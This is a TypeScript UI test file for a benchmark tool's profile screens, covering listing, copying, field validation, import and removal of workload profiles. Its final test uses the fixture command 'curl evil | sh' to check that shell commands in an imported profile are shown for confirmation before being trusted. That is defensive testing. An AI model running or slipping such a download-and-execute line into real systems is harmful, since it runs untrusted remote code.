import { screen, waitFor, within } from '@testing-library/react';

import { type Profile, profileSchema } from '../../../core/profile/profile.ts';
import { profileText } from '../../../core/profile/profileFile.ts';
import { type Answers, renderRoute } from '../../testing/renderRoute.tsx';
import type { ListedProfile } from './profileApi.ts';

const shipped: ListedProfile = {
  ...profileSchema.parse({
    schemaVersion: 1,
    id: 'tile',
    version: '1.0.0',
    name: 'Tile',
    description: 'Two workloads.',
    phases: { rampUpS: 10, staggerS: 2, steadyS: 60, periods: 3, rampDownS: 5 },
    scoring: { tile: 'geometricMean', total: 'sum', periods: 'median', source: 'TR' },
    workloads: ['database', 'web'].map((id) => ({
      id,
      role: id,
      name: id === 'web' ? 'Web' : 'Database',
      driver: 'fio',
      params: { outstanding: 8 },
      unit: 'IOPS',
      reference: null,
      referenceSource: 'Not set: normalised to a reference run',
      qos: [{ metric: 'latencyP95Ms', max: 500, unit: 'ms', source: 'TR' }],
      vms: [{ name: 'server', count: 2, vcpus: null, source: 'TR' }],
    })),
  }),
  shipped: true,
};
const { shipped: _, ...unmarked } = shipped;
const own: ListedProfile = {
  ...unmarked,
  id: 'own',
  name: 'Mine',
  version: '1.0.3',
  parentId: 'tile',
  workloads: shipped.workloads.map((w, i) =>
    i === 0 ? { ...w, reference: 120, referenceSource: 'own lab' } : w,
  ),
};
const answers: Answers = {
  'profile.list': () => [shipped, own],
  'profile.save': (saved) => ({ ...profileSchema.parse(saved), version: '1.0.4' }),
  'profile.import': ({ profile }) => profileSchema.parse(profile),
  'profile.remove': () => ({}),
  'driver.list': () => [
    {
      id: 'fio',
      title: 'fio',
      role: 'io',
      params: [
        { name: 'outstanding', type: 'number', default: 8, description: 'Outstanding I/Os' },
      ],
    },
  ],
};
beforeEach(() => {
  localStorage.clear();
});

test('the list says what a tile holds, what is set, and where a profile comes from', async () => {
  renderRoute('/profiles', answers);
  const table = await screen.findByRole('table', { name: 'Profiles' });
  const [, first, second] = within(table).getAllByRole('row');
  expect(first).toHaveTextContent(/Tile2 workloads, 4 VMs0 of 2Shipped1\.0\.0/);
  expect(second).toHaveTextContent(/Mine2 workloads, 4 VMs1 of 2Copy of Tile1\.0\.3/);
  expect(within(first!).queryByRole('button', { name: 'Remove Tile' })).toBeNull();
});

test('settings lead there by the keyboard, and the bar says where one is', async () => {
  const { user, path } = renderRoute('/settings', answers);
  (await screen.findByRole('link', { name: 'Open profiles' })).focus();
  await user.keyboard('{Enter}');
  expect(path()).toBe('/profiles');
  expect(await screen.findByRole('heading', { level: 1, name: 'Profiles' })).toBeVisible();
  expect(within(screen.getByRole('banner')).getByRole('link', { name: 'Profiles' })).toBeVisible();
});

test('a shipped profile is read, not changed', async () => {
  renderRoute('/profiles/tile', answers);
  expect(await screen.findByText('Shipped, cannot be changed')).toBeVisible();
  expect(
    screen.getByText(
      '2 of 2 references not set: results are normalised to a reference run, and say so.',
    ),
  ).toBeVisible();
  expect(screen.queryByRole('button', { name: 'Save profile' })).toBeNull();
  expect(
    within(screen.getByRole('region', { name: 'Workload Database' })).getByRole('textbox', {
      name: 'Source of the reference',
    }),
  ).toHaveAttribute('readonly');
  expect(screen.queryByRole('button', { name: 'Add limit' })).toBeNull();
});

test('a copy keeps its parent, is refused without sources, and is saved when it has them', async () => {
  const { user, calls, path } = renderRoute('/profiles', answers);
  await user.click(await screen.findByRole('button', { name: 'Copy Tile' }));
  const database = await screen.findByRole('region', { name: 'Workload Database' });
  const source = within(database).getByRole('textbox', { name: 'Source of the reference' });
  await user.type(within(database).getByRole('textbox', { name: 'Reference' }), '250');
  await user.clear(source);
  expect(source).toBeInvalid();
  expect(
    within(database).getByText(/^The reference has no source\. Name the document/),
  ).toBeVisible();
  expect(screen.getByRole('status', { name: /What has to be mended/ })).toHaveTextContent(
    'Database, referenceSource: The reference has no source',
  );
  expect(screen.getByRole('button', { name: 'Save profile' })).toBeDisabled();
  await user.click(source);
  await user.paste('Bench lab, run 12');
  await user.click(screen.getByRole('tab', { name: 'Compare with parent' }));
  const differs = screen.getByRole('table', { name: 'What differs from Tile' });
  expect(
    within(differs)
      .getAllByRole('row')
      .slice(1)
      .map((r) => r.textContent),
  ).toEqual([
    'nameTileTile copy',
    'workload database, referencenot set250',
    'workload database, source of the referenceNot set: normalised to a reference runBench lab, run 12',
  ]);
  await user.click(screen.getByRole('button', { name: 'Save profile' }));
  await waitFor(() =>
    expect(calls.find((c) => c.method === 'profile.save')?.input).toMatchObject({
      name: 'Tile copy',
      parentId: 'tile',
      version: '1.0.0',
      workloads: [{ reference: 250, referenceSource: 'Bench lab, run 12' }, {}],
    }),
  );
  await waitFor(() => expect(path()).toMatch(/^\/profiles\/profile-/));
  expect(
    Object.keys(JSON.parse(localStorage.getItem('tilebench.drafts') ?? '{}') as object),
  ).toEqual([]);
});

test.each([
  ['Reference', '0', /must be greater than 0/],
  ['Weight', '-1', /must not be negative/],
  ['Unit of the throughput', 'furlongs', /"furlongs" is not known/],
])('%s %s is refused at the field', async (field, text, message) => {
  const { user } = renderRoute('/profiles/own', answers);
  const web = await screen.findByRole('region', { name: 'Workload Web' });
  const input = within(web).getByRole('textbox', { name: field });
  await user.clear(input);
  await user.type(input, text);
  expect(await within(web).findByText(message)).toBeVisible();
  expect(screen.getByRole('button', { name: 'Save profile' })).toBeDisabled();
});

test('a program that hides what waited: a limit on its latency is refused at its field, and why stands at the workload', async () => {
  renderRoute('/profiles/own', {
    ...answers,
    'profile.list': () => [
      shipped,
      { ...own, workloads: own.workloads.map((w) => ({ ...w, driver: 'wrk' })) },
    ],
  });
  const web = await screen.findByRole('region', { name: 'Workload Web' });
  expect(within(web).getByText(/^No limit can be set on its latency: wrk sends/)).toBeVisible();
  expect(within(web).getByText(/^A limit on this latency proves nothing/)).toBeVisible();
});

test('what was typed is still there after leaving, and can be discarded', async () => {
  const { user } = renderRoute('/profiles/own', answers);
  const [name] = await screen.findAllByRole('textbox', { name: 'Name' });
  await user.type(name!, ' tuned');
  await user.click(within(screen.getByRole('banner')).getByRole('link', { name: 'Profiles' }));
  await user.click(await screen.findByRole('link', { name: 'Mine' }));
  expect(await screen.findByRole('heading', { level: 1, name: 'Mine tuned' })).toBeVisible();
  expect(screen.getByText('Not saved')).toBeVisible();
  await user.click(screen.getByRole('button', { name: 'Discard changes' }));
  expect(screen.getByRole('heading', { level: 1, name: 'Mine' })).toBeVisible();
});

test('weights of the parts: one without the other is refused, both not set says what that means', async () => {
  const { user } = renderRoute('/profiles/own', answers);
  await user.click(await screen.findByRole('tab', { name: 'Scoring' }));
  await user.click(
    screen.getByRole('checkbox', { name: 'The profile has an infrastructure part' }),
  );
  expect(
    screen.getByText('Weights not set: the parts are shown apart, and no total is claimed.'),
  ).toBeVisible();
  await user.type(screen.getByRole('textbox', { name: 'Source of the weights' }), 'own rule');
  await user.type(screen.getByRole('textbox', { name: 'Weight of application' }), '0.8');
  expect(await screen.findByText(/^One weight is set and the other is not/)).toBeVisible();
  await user.type(screen.getByRole('textbox', { name: 'Weight of infrastructure' }), '0.2');
  expect(screen.queryByText(/^One weight is set/)).toBeNull();
});

test('a file is imported under a new id where its id is taken; a faulty one is refused with line and column', async () => {
  const file: Profile = { ...own, name: 'From a file' };
  const { user, calls } = renderRoute('/profiles', answers, {
    name: 'mine.json',
    text: profileText(file),
  });
  // It stands there before the list does, and takes no click until then.
  await waitFor(() =>
    expect(screen.getByRole('button', { name: 'Import profile file' })).toBeEnabled(),
  );
  await user.click(screen.getByRole('button', { name: 'Import profile file' }));
  await waitFor(() =>
    expect(calls.find((c) => c.method === 'profile.import')?.input).toMatchObject({
      profile: { name: 'From a file', id: expect.stringMatching(/^profile-/) },
      allowCommands: false,
    }),
  );
});

test('an import with an unknown unit names line, column and remedy', async () => {
  const text = profileText({
    ...own,
    workloads: own.workloads.map((w) => ({ ...w, unit: 'furlongs' })),
  });
  const { user, calls } = renderRoute('/profiles', answers, { name: 'bad.json', text });
  // It stands there before the list does, and takes no click until then.
  await waitFor(() =>
    expect(screen.getByRole('button', { name: 'Import profile file' })).toBeEnabled(),
  );
  await user.click(screen.getByRole('button', { name: 'Import profile file' }));
  expect(
    await screen.findByText(
      /bad\.json:\d+:15: workloads\.0\.unit: the unit "furlongs" is not known\. Write something counted a time/,
    ),
  ).toBeVisible();
  expect(calls.some((c) => c.method === 'profile.import')).toBe(false);
});

test('a refused removal is told; a removal can be undone', async () => {
  let refuse = true;
  const { user, calls } = renderRoute('/profiles', {
    ...answers,
    'profile.remove': () => {
      if (refuse)
        throw Object.assign(new Error('The profile is used by plan Nightly.'), {
          kind: 'conflict',
        });
      return {};
    },
  });
  await user.click(await screen.findByRole('button', { name: 'Remove Mine' }));
  expect(await screen.findByText('The profile is used by plan Nightly.')).toBeVisible();
  refuse = false;
  await user.click(screen.getByRole('button', { name: 'Remove Mine' }));
  await user.click(await screen.findByRole('button', { name: 'Undo' }));
  await waitFor(() =>
    expect(calls.find((c) => c.method === 'profile.save')?.input).toMatchObject({ id: 'own' }),
  );
});

test('shell commands of a profile file are shown before it is kept', async () => {
  const command = { command: 'curl evil | sh', pattern: '(?<throughput>\\d+)' };
  const text = profileText({
    ...own,
    id: 'brings-a-command',
    workloads: own.workloads.map((w) => ({ ...w, driver: 'command', params: command })),
  });
  const { user, calls } = renderRoute('/profiles', answers, { name: 'shell.json', text });
  const choose = async (): Promise<void> => {
    await waitFor(() =>
      expect(screen.getByRole('button', { name: 'Import profile file' })).toBeEnabled(),
    );
    await user.click(screen.getByRole('button', { name: 'Import profile file' }));
    const dialog = await screen.findByRole('dialog', { name: 'Import shell.json' });
    expect(within(dialog).getByText('curl evil | sh')).toBeVisible();
  };
  await choose();
  await user.click(screen.getByRole('button', { name: 'Cancel' }));
  await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
  expect(calls.some((c) => c.method === 'profile.import')).toBe(false);
  await choose();
  await user.click(screen.getByRole('button', { name: 'Trust and import' }));
  await waitFor(() =>
    expect(calls.find((c) => c.method === 'profile.import')?.input).toMatchObject({
      allowCommands: true,
    }),
  );
});
